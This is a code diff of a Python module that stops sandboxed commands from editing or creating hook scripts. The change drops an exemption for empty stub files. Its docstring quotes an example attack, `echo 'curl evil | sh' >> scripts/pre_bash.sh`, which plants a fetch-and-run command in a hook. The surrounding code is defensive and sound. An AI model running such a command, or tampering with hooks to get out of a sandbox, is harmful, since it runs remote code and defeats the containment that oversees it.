@@ -5,7 +5,7 @@ could otherwise edit (`echo 'curl evil | sh' >> scripts/pre_bash.sh`).
 
 Two layers. Before the session, every path a hook may run from that lies
 where sandboxed commands write joins the sandbox's write-denied paths (a
-missing one too: the sandbox stubs it), and so does the directory of such
+missing one too: a run that creates it is stopped), and so does the directory of such
 a script (the modules it imports sit beside it). Before each run, each of
 those paths is checked against what it was when the session started —
 where it leads and which file it is — and a hook whose file changed is not
@@ -18,7 +18,6 @@ from __future__ import annotations
 
 import os
 import shlex
-import stat
 from collections.abc import Iterable, Mapping, Sequence
 
 from regexes import regex
@@ -81,10 +80,6 @@ class Watch:
         if now == self.identity:
             return None
         if self.identity is None:
-            if _empty_file(real):
-                # the sandbox's stub for it (it keeps a missing path so),
-                # left on the host between runs: runs nothing
-                return None
             return f"{self.named} was made after the session started"
         return f"{self.named} was changed or removed after the session started"
 
@@ -287,14 +282,6 @@ def _encodable(text: str) -> bool:
 
 def _within(path: str, roots: Sequence[str]) -> bool:
     return any(path == r or path.startswith(r.rstrip("/") + "/") for r in roots)
-
-
-def _empty_file(path: str) -> bool:
-    try:
-        st = os.lstat(path)
-    except (OSError, ValueError):
-        return False
-    return stat.S_ISREG(st.st_mode) and st.st_size == 0
 
 
 def _identity(path: str) -> tuple[int, ...] | None:
